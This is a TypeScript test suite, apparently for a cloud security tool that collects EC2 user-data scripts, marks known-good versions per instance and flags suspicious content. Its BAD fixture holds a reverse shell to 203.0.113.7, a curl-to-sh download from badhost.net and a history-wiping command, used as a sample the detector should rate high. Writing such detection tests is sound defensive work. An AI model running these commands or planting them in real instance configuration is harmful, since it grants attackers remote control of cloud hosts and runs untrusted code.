import { createHash } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Context } from '@/lib/context';
import { ingestRecords } from '@/lib/detect/detection.test-support';
import { NotFoundError } from '@/lib/errors';
import { groupFindings } from '@/lib/payload/findings/finding-groups';
import { insertAlert, insertPerson } from '@/scripts/test-alerts';
import { openTestDatabase, type TestDatabase } from '@/scripts/test-database-client';
import { ACCOUNT, makeRecord } from '@/scripts/test-records';
import { attachPayload } from './attach-payload';
import { collectPayloads } from './collect-payloads';
import { comparePayloads } from './compare-payloads';
import { decodeText } from './decode-text';
import { getPayload, payloadSelection } from './get-payload';
import { keepDecoded } from './keep-decoded';
import { listAlertPayloads } from './list-alert-payloads';
import { listPayloadPlaces } from './list-payload-places';
import { listPayloads } from './list-payloads';
import { markGood } from '@/lib/usecase/instance/mark-good';
import { readRecordedUserData } from './read-recorded-user-data';
import { withdrawGood } from '@/lib/usecase/instance/withdraw-good';

const GOOD = '#!/bin/sh\necho ready\n';
const OLDER = '#!/bin/sh\necho almost ready\n';
const BAD =
  '#cloud-boothook\n#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.7/443 0>&1\ncurl http://files.badhost.net/a.sh | sh\nhistory -c\n';
const IN_TEMPLATE = '#!/bin/sh\necho from a template\n';
const I1 = { accountId: ACCOUNT, instanceId: 'i-0abc1' };
const I2 = { accountId: ACCOUNT, instanceId: 'i-0abc2' };

const bytesOf = (text: string) => new TextEncoder().encode(text);
const base64 = (text: string) => Buffer.from(text).toString('base64');
const sha = (text: string) => createHash('sha256').update(text).digest('hex');

let test: TestDatabase;
let ana: Context;

beforeAll(async () => {
  test = await openTestDatabase();
  ana = await insertPerson(test.ctx, 'Ana');
  await insertAlert(test.db, 'one');
  await insertAlert(test.db, 'two', { instanceIds: [I2.instanceId] });
});
afterAll(() => test.close());

const attach = (alertId: string, text: string) =>
  attachPayload(ana, { alertId, bytes: bytesOf(text), how: 'paste' });
const open = (sha256: string) => getPayload(ana, { sha256, selection: payloadSelection.parse({}) });
const mark = (instance: typeof I1, text: string) =>
  markGood(ana, { ...instance, sha256: sha(text), evenIfNotSeen: true });

describe('where a content was seen', () => {
  /** Of each place its name, whether the content is good there, and what is good instead. */
  const standings = async (text: string) => {
    const { places } = await listPayloadPlaces(ana, { sha256: sha(text) });
    return Object.fromEntries(
      places.map(({ accountId, holderId, good, otherGood }) => [
        accountId === ACCOUNT ? holderId : `${accountId}/${holderId}`,
        { good, otherGood },
      ]),
    );
  };

  beforeAll(async () => {
    await attach('one', GOOD);
    await attach('one', OLDER);
    await attach('one', BAD);
    await attach('two', BAD);
  });

  it('offers nothing to compare with until somebody marked a content of that instance good', async () => {
    expect(await standings(BAD)).toEqual({
      'i-0abc1': { good: false, otherGood: null },
      'i-0abc2': { good: false, otherGood: null },
    });
  });

  it('offers the last known good of the instance where it was marked, and there alone', async () => {
    await mark(I1, GOOD);
    expect(await standings(BAD)).toEqual({
      'i-0abc1': { good: false, otherGood: sha(GOOD) },
      'i-0abc2': { good: false, otherGood: null },
    });
    expect(await standings(GOOD)).toEqual({ 'i-0abc1': { good: true, otherGood: null } });
    const { diff } = await comparePayloads(ana, { older: sha(GOOD), newer: sha(BAD) });
    expect([diff.older.runsAtNextStart, diff.newer.runsAtNextStart]).toEqual(['no', 'yes']);
  });

  it('offers for each instance its own, also one that was never seen there', async () => {
    await mark(I2, OLDER);
    expect(await standings(BAD)).toEqual({
      'i-0abc1': { good: false, otherGood: sha(GOOD) },
      'i-0abc2': { good: false, otherGood: sha(OLDER) },
    });
  });

  it('offers the newest mark that stands, and the one before it again once that is withdrawn', async () => {
    await mark(I1, OLDER);
    expect((await standings(BAD))['i-0abc1']).toEqual({ good: false, otherGood: sha(OLDER) });
    expect((await standings(GOOD))['i-0abc1']).toEqual({ good: false, otherGood: sha(OLDER) });
    await withdrawGood(ana, { ...I1, sha256: sha(OLDER) });
    expect((await standings(BAD))['i-0abc1']).toEqual({ good: false, otherGood: sha(GOOD) });
    expect((await standings(GOOD))['i-0abc1']).toEqual({ good: true, otherGood: null });
  });

  it('offers nothing of an instance of the same name in another account, nor of a template of that name', async () => {
    const elsewhere = { ...I1, accountId: '210987654321' };
    await keepDecoded(ana, {
      ...{ bytes: bytesOf(BAD), fileName: null, alert: '' },
      ...elsewhere,
    });
    await ingestRecords(test.ctx, 'template', [
      makeRecord({
        at: '2024-08-01T11:00:00Z',
        eventName: 'CreateLaunchConfiguration',
        eventId: 'same-name',
        request: { launchConfigurationName: I1.instanceId, userData: base64(BAD) },
        extra: { eventSource: 'autoscaling.amazonaws.com' },
      }),
    ]);
    await collectPayloads(test.ctx);
    const { places } = await listPayloadPlaces(ana, { sha256: sha(BAD) });
    expect(
      places
        .filter(({ holderId }) => holderId === I1.instanceId)
        .map(({ accountId, holderKind, otherGood }) => [accountId, holderKind, otherGood])
        .sort(),
    ).toEqual([
      [ACCOUNT, 'instance', sha(GOOD)],
      [ACCOUNT, 'launch-configuration', null],
      [elsewhere.accountId, 'instance', null],
    ]);
  });

  it('is told a page at a time, with what is good on each', async () => {
    const names = Array.from({ length: 30 }, (_, at) => `i-0page${String(at).padStart(2, '0')}`);
    for (const [at, instanceId] of names.entries())
      await test.db.prisma.payloadSighting.create({
        data: {
          ...{ accountId: ACCOUNT, key: `read/${instanceId}`, holderKind: 'instance', holderId: instanceId },
          ...{ sha256: sha(OLDER), seenAt: new Date(Date.UTC(2024, 0, 31 - at)), how: 'fetch' },
        },
      });
    const last = { accountId: ACCOUNT, instanceId: names.at(-1) ?? '' };
    await mark(last, GOOD);
    const first = await listPayloadPlaces(ana, { sha256: sha(OLDER) });
    const second = await listPayloadPlaces(ana, { sha256: sha(OLDER), page: 2 });
    expect([first.total, first.places.length, second.total, second.places.length]).toEqual([31, 25, 31, 6]);
    expect(new Set([...first.places, ...second.places].map(({ holderId }) => holderId)).size).toBe(31);
    expect(second.places.at(-1)).toMatchObject({ holderId: last.instanceId, otherGood: sha(GOOD) });
    expect(await listPayloadPlaces(ana, { sha256: sha(OLDER), page: 9 })).toEqual(second);
  });
});

describe('a content that is kept already', () => {
  const isKept = async (text: string | Uint8Array) =>
    (await decodeText(ana, { bytes: typeof text === 'string' ? bytesOf(text) : text })).isKept;

  it('is said to be kept when it is pasted again, whatever stands around it', async () => {
    const script = '#!/bin/sh\necho pasted twice, and long enough\n';
    expect(await isKept(script)).toBe(false);
    await keepDecoded(ana, {
      ...{ bytes: bytesOf(base64(script)), fileName: null },
      ...{ alert: '', instanceId: '', accountId: '' },
    });
    for (const pasted of [
      script,
      base64(script),
      base64(script).replace(/.{20}/g, '$&\r\n'),
      JSON.stringify({ InstanceId: 'i-0abc1', UserData: { Value: base64(script) } }),
      `i-0abc1\nUSERDATA\t${base64(script)}\n`,
      new Uint8Array(Buffer.from(`\ufeff${base64(script)}`, 'utf16le')),
    ])
      expect(await isKept(pasted)).toBe(true);
    expect((await open(sha(script))).size).toBe(script.length);
  });

  it('is not said of another one, of one that differs by a byte or of what AWS withheld', async () => {
    await attach('one', GOOD);
    for (const pasted of [`${GOOD}\n`, GOOD.trimEnd(), '#!/bin/sh\necho nobody kept this\n'])
      expect(await isKept(pasted)).toBe(false);
    expect(await isKept('<sensitiveDataRemoved>')).toBe(false);
    await expect(open(sha('<sensitiveDataRemoved>'))).rejects.toThrow(NotFoundError);
  });

  it('may be no content at all, which has a page too', async () => {
    expect(await isKept('None\n')).toBe(false);
    await attach('one', 'None\n');
    expect(await isKept('{"InstanceId": "i-0abc1", "UserData": {}}')).toBe(true);
    expect(await open(sha(''))).toMatchObject({ size: 0, part: null });
  });

  it('is said of the user data in a record once it was collected, and not before', async () => {
    await ingestRecords(test.ctx, 'recorded', [
      makeRecord({
        at: '2024-08-03T10:00:00Z',
        eventName: 'CreateLaunchConfiguration',
        eventId: 'recorded',
        request: { launchConfigurationName: 'web', userData: base64(IN_TEMPLATE) },
        extra: { eventSource: 'autoscaling.amazonaws.com' },
      }),
    ]);
    const recorded = async () =>
      (
        await readRecordedUserData(ana, {
          ...{ accountId: ACCOUNT, eventTime: new Date('2024-08-03T10:00:00Z'), eventId: 'recorded' },
        })
      ).items.map(({ content, isKept: kept }) => [content?.sha256, kept]);
    expect(await recorded()).toEqual([[sha(IN_TEMPLATE), false]]);
    expect(await isKept(IN_TEMPLATE)).toBe(false);
    await collectPayloads(test.ctx);
    expect(await recorded()).toEqual([[sha(IN_TEMPLATE), true]]);
    expect(await isKept(IN_TEMPLATE)).toBe(true);
    expect((await open(sha(IN_TEMPLATE))).sha256).toBe(sha(IN_TEMPLATE));
  });
});

describe('what is worth a look', () => {
  const listed = async (text: string) => {
    const { items } = await listPayloads(ana, {
      filter: { search: sha(text), term: null, holder: '', hows: [] },
      sort: { key: 'lastSeenAt', descending: true },
      page: 1,
    });
    return items[0]?.findings;
  };

  it('is counted in the list as it stands on the content’s page and in the alert’s panel, worst first', async () => {
    await attach('two', BAD);
    const findings = await listed(BAD);
    const { indicators } = (await open(sha(BAD))).decoded;
    const inAlert = (await listAlertPayloads(ana, { alertId: 'two' })).find(
      ({ sha256 }) => sha256 === sha(BAD),
    );
    expect(inAlert?.decoded.indicators).toEqual(indicators);
    const shown = groupFindings(indicators).flatMap(({ found }) => found.map(({ severity }) => severity));
    expect((findings ?? []).flatMap(([severity, count]) => Array<string>(count).fill(severity))).toEqual(
      shown,
    );
    expect(findings?.[0]?.[0]).toBe('high');
  });

  it('is nothing where the page shows nothing', async () => {
    await attach('one', GOOD);
    expect(await listed(GOOD)).toEqual([]);
    expect((await open(sha(GOOD))).decoded.indicators).toEqual([]);
  });
});
